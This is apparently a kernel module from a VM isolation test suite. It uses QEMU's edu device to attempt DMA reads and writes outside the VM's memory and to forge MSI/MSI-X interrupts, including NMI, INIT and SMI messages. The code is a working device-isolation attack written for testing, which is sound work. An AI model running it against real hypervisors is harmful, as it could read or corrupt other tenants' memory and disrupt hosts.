/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A device that does what it is told (QEMU's edu: DMA and MSI), given to the VM: DMA from and to
 * all memory that is not the VM's, and forged interrupt messages. Every edu of the VM works at
 * once, as one DMA takes it 100 ms. Registers: QEMU's docs/specs/edu.txt.
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/pci.h>
#include <linux/slab.h>

#include "attack.h"

#define EDU_VENDOR 0x1234
#define EDU_DEVICE 0x11e8
#define EDU_MAX	   16

#define EDU_RAISE   0x60
#define EDU_ACK	    0x64
#define EDU_SOURCE  0x80
#define EDU_TARGET  0x88
#define EDU_SIZE    0x90
#define EDU_START   0x98
#define START	    1
#define TO_RAM	    2
#define BUFFER	    0x40000 /* the device's own memory, as its DMA engine sees it */
#define BUFFER_SIZE 4096
#define SLOT	    16			     /* a piece of it */
#define SLOTS	    (BUFFER_SIZE / SLOT - 1) /* the emulator refuses the very last bytes */

#define BLOCK	(2ULL << 20)
#define PATTERN 0xa77acceda77accedULL
#define FILLER	0x5a5a5a5a5a5a5a5aULL
#define WAIT_MS 2000

struct edu {
	struct pci_dev *dev;
	void __iomem *registers;
	u64 *page; /* of the VM's own memory, a copy of BUFFER when it is asked for */
	u64 addresses[SLOTS];
	unsigned int count;
};

static struct edu edus[EDU_MAX];
static unsigned int edu_count;

static void find_edus(void)
{
	struct pci_dev *dev = NULL;

	edu_count = 0;
	while (edu_count < EDU_MAX && (dev = pci_get_device(EDU_VENDOR, EDU_DEVICE, dev))) {
		struct edu *edu = &edus[edu_count];

		if (pci_enable_device(dev))
			continue;
		pci_set_master(dev);
		edu->registers = pci_iomap(dev, 0, 0);
		edu->page = (u64 *)get_zeroed_page(GFP_KERNEL);
		if (!edu->registers || !edu->page)
			continue; /* out of memory: the test has other worries */
		edu->count = 0;
		edu->dev = pci_dev_get(dev);
		edu_count++;
	}
	if (!edu_count)
		pr_alert("attack: there is no edu device\n");
}

static void drop_edus(void)
{
	while (edu_count--) {
		pci_iounmap(edus[edu_count].dev, edus[edu_count].registers);
		free_page((unsigned long)edus[edu_count].page);
		pci_dev_put(edus[edu_count].dev);
	}
	edu_count = 0;
}

static void start(struct edu *edu, u64 address, unsigned int offset, u64 size, bool to_ram)
{
	writeq(to_ram ? BUFFER + offset : address, edu->registers + EDU_SOURCE);
	writeq(to_ram ? address : BUFFER + offset, edu->registers + EDU_TARGET);
	writeq(size, edu->registers + EDU_SIZE);
	writeq(START | (to_ram ? TO_RAM : 0), edu->registers + EDU_START);
	attack_tried(1);
}

/* Until it has done what it was told. */
static void finish(struct edu *edu)
{
	int ms;

	for (ms = 0; ms < WAIT_MS && readq(edu->registers + EDU_START) & START; ms += 5)
		msleep(5);
}

/* Fills the device's buffer from its page, or the page from the buffer. */
static void load(struct edu *edu)
{
	start(edu, virt_to_phys(edu->page), 0, SLOTS * SLOT, false);
	finish(edu);
}

static void save(struct edu *edu)
{
	start(edu, virt_to_phys(edu->page), 0, SLOTS * SLOT, true);
	finish(edu);
}

static void load_value(struct edu *edu, u64 value)
{
	memset64(edu->page, value, BUFFER_SIZE / sizeof(value));
	load(edu);
}

/* DMA does work where it may: else what follows shows nothing. */
static bool own_memory_works(struct edu *edu)
{
	load_value(edu, PATTERN);
	memset(edu->page, 0, BUFFER_SIZE);
	save(edu);
	return edu->page[0] == PATTERN && edu->page[SLOTS * SLOT / 8 - 1] == PATTERN;
}

/* Every device's addresses, all devices at once: the n-th of each, for all n. */
static void each_address(bool to_ram)
{
	unsigned int n, i;

	for (n = 0; n < SLOTS; n++) {
		for (i = 0; i < edu_count; i++)
			if (n < edus[i].count)
				start(&edus[i], edus[i].addresses[n], n * SLOT, SLOT, to_ram);
		for (i = 0; i < edu_count; i++)
			if (n < edus[i].count)
				finish(&edus[i]);
	}
}

static void try_addresses(void)
{
	unsigned int n, i;

	for (i = 0; i < edu_count; i++)
		load_value(&edus[i], FILLER);
	each_address(false);
	for (i = 0; i < edu_count; i++) {
		save(&edus[i]);
		for (n = 0; n < edus[i].count; n++) {
			u64 value = edus[i].page[n * SLOT / sizeof(u64)];

			/* What a blocked read gives is the device's affair: nothing or a constant.
			 */
			if (value != FILLER && value != 0 && value != ~0ULL)
				attack_through("DMA reads %#llx at %#llx", value,
					       edus[i].addresses[n]);
		}
	}
	if (attack_core) {
		for (i = 0; i < edu_count; i++)
			load_value(&edus[i], PATTERN);
		each_address(true);
	}
	for (i = 0; i < edu_count; i++)
		edus[i].count = 0;
}

static void add_address(u64 address, unsigned int *next)
{
	struct edu *edu = &edus[*next];

	edu->addresses[edu->count++] = address;
	*next = (*next + 1) % edu_count;
	if (edus[edu_count - 1].count == SLOTS)
		try_addresses();
}

void attack_dma(void)
{
	u64 block, foreign = 0;
	unsigned int next = 0;

	find_edus();
	if (!edu_count)
		return;
	if (!own_memory_works(&edus[0]))
		attack_through("DMA does not even reach the VM's own memory");
	for (block = 0; block < attack_fine; block += BLOCK) {
		/* Another page of each block, so that not all are its first one. */
		u64 address = block + (attack_random() % (BLOCK / PAGE_SIZE)) * PAGE_SIZE;

		if (attack_page(address) == ATTACK_FOREIGN) {
			add_address(address, &next);
			foreign = address;
		}
	}
	/* Beyond what any table has; an IOMMU that drops high bits must not see the VM's own. */
	for (block = 1ULL << 40; block; block <<= 4)
		add_address(block | foreign, &next);
	try_addresses();
	drop_edus();
}

/* ---- interrupts ---- */

/* Fixed, lowest, SMI, NMI, INIT, start-up, external; to each of some CPUs; vectors of the core's.
 */
static u32 forged_data(unsigned int n)
{
	static const u8 vectors[] = {0x00, 0x02, 0x0f, 0x20, 0x30, 0x41, 0x81,
				     0xef, 0xf0, 0xf1, 0xf2, 0xfa, 0xfd, 0xff};

	return vectors[n % ARRAY_SIZE(vectors)] | (n / 3 % 8) << 8 | (n & 1) << 15 |
	       (n / 2 & 1) << 14;
}

static u64 forged_address(unsigned int n)
{
	static const u32 destinations[] = {0, 1, 2, 3, 15, 0x7f, 0xff};

	return 0xfee00000ULL | destinations[n % ARRAY_SIZE(destinations)] << 12 | (n % 5) << 2;
}

/* NMI, INIT, start-up and SMI to its own CPUs are the VM's to survive: not what is tried here. */
static bool hurts_itself(u64 address, u32 data)
{
	u32 delivery = data >> 8 & 7, destination = address >> 12 & 0xff;

	return delivery > 1 &&
	       (destination < num_possible_cpus() || destination == 0xff || address & 4);
}

static void forge_by_dma(struct edu *edu)
{
	unsigned int n;

	for (n = 0; n < 24; n++)
		edu->page[n * SLOT / sizeof(u64)] = forged_data(n);
	load(edu);
	for (n = 0; n < 24; n++) {
		if (hurts_itself(forged_address(n), forged_data(n)) ||
		    (!attack_compatible && !(forged_address(n) & 0x10)))
			continue;
		start(edu, forged_address(n), n * SLOT, 4, true);
		finish(edu);
	}
	/* Remappable format, any index; sizes that are no message. */
	for (n = 0; n < 8; n++) {
		start(edu, 0xfee00010ULL | (attack_random() & 0xfffe0) | (n & 1) << 2, n * SLOT, 4,
		      true);
		finish(edu);
		if (!attack_compatible)
			continue;
		start(edu, 0xfee00000ULL + n * 0x1f, 0, 64, true);
		finish(edu);
	}
}

/* The device's own MSI, with messages of every kind. */
static void forge_by_msi(struct edu *edu)
{
	int cap = pci_find_capability(edu->dev, PCI_CAP_ID_MSI);
	u32 low, high;
	u16 flags, data;
	unsigned int n;
	bool wide;

	if (!cap)
		return;
	pci_read_config_word(edu->dev, cap + PCI_MSI_FLAGS, &flags);
	wide = flags & PCI_MSI_FLAGS_64BIT;
	pci_read_config_dword(edu->dev, cap + PCI_MSI_ADDRESS_LO, &low);
	pci_read_config_dword(edu->dev, cap + PCI_MSI_ADDRESS_HI, &high);
	pci_read_config_word(edu->dev, cap + (wide ? PCI_MSI_DATA_64 : PCI_MSI_DATA_32), &data);
	for (n = 0; n < 200; n++) {
		u64 address = n < 160 ? forged_address(n) : attack_random();
		u32 message = n < 160 ? forged_data(n) : (u32)attack_random();

		if (n < 160 && hurts_itself(address, message))
			continue;
		if (n >= 160 && (address & 0xfff00000) == 0xfee00000)
			continue;
		pci_write_config_dword(edu->dev, cap + PCI_MSI_ADDRESS_LO, (u32)address);
		if (wide)
			pci_write_config_dword(edu->dev, cap + PCI_MSI_ADDRESS_HI, address >> 32);
		pci_write_config_word(edu->dev, cap + (wide ? PCI_MSI_DATA_64 : PCI_MSI_DATA_32),
				      (u16)message);
		pci_write_config_word(edu->dev, cap + PCI_MSI_FLAGS, flags | PCI_MSI_FLAGS_ENABLE);
		writel(1, edu->registers + EDU_RAISE);
		writel(1, edu->registers + EDU_ACK);
		pci_write_config_word(edu->dev, cap + PCI_MSI_FLAGS, flags);
		attack_tried(1);
	}
	pci_write_config_dword(edu->dev, cap + PCI_MSI_ADDRESS_LO, low);
	if (wide)
		pci_write_config_dword(edu->dev, cap + PCI_MSI_ADDRESS_HI, high);
	pci_write_config_word(edu->dev, cap + (wide ? PCI_MSI_DATA_64 : PCI_MSI_DATA_32), data);
}

/* Entries of MSI-X tables that no driver uses. */
static void forge_entries(struct pci_dev *dev)
{
	int cap = pci_find_capability(dev, PCI_CAP_ID_MSIX);
	void __iomem *table;
	unsigned int n, entries;
	u16 control;
	u32 where;

	if (!cap)
		return;
	pci_read_config_word(dev, cap + PCI_MSIX_FLAGS, &control);
	pci_read_config_dword(dev, cap + PCI_MSIX_TABLE, &where);
	entries = (control & PCI_MSIX_FLAGS_QSIZE) + 1;
	if ((where & PCI_MSIX_TABLE_BIR) > 5)
		return;
	table = ioremap(pci_resource_start(dev, where & PCI_MSIX_TABLE_BIR) +
				(where & PCI_MSIX_TABLE_OFFSET),
			entries * PCI_MSIX_ENTRY_SIZE);
	if (!table)
		return;
	for (n = 0; n < entries; n++) {
		void __iomem *entry = table + n * PCI_MSIX_ENTRY_SIZE;
		unsigned int i;

		if (!(readl(entry + PCI_MSIX_ENTRY_VECTOR_CTRL) & PCI_MSIX_ENTRY_CTRL_MASKBIT) ||
		    readl(entry + PCI_MSIX_ENTRY_DATA))
			continue;
		for (i = 0; i < 64; i++) {
			u64 address = i % 4 ? forged_address(i) : attack_random();

			writel((u32)address, entry + PCI_MSIX_ENTRY_LOWER_ADDR);
			writel(address >> 32, entry + PCI_MSIX_ENTRY_UPPER_ADDR);
			writel(i % 4 ? forged_data(i) : (u32)attack_random(),
			       entry + PCI_MSIX_ENTRY_DATA);
			writel(0, entry + PCI_MSIX_ENTRY_VECTOR_CTRL);
			writel(1, entry + PCI_MSIX_ENTRY_VECTOR_CTRL);
			attack_tried(1);
		}
		writel(0, entry + PCI_MSIX_ENTRY_LOWER_ADDR);
		writel(0, entry + PCI_MSIX_ENTRY_UPPER_ADDR);
		writel(0, entry + PCI_MSIX_ENTRY_DATA);
	}
	iounmap(table);
}

void attack_msi(void)
{
	struct pci_dev *dev = NULL;

	find_edus();
	if (attack_core && edu_count) {
		forge_by_msi(&edus[0]);
		forge_by_dma(&edus[0]);
	}
	drop_edus();
	if (attack_core)
		for_each_pci_dev(dev) forge_entries(dev);
}
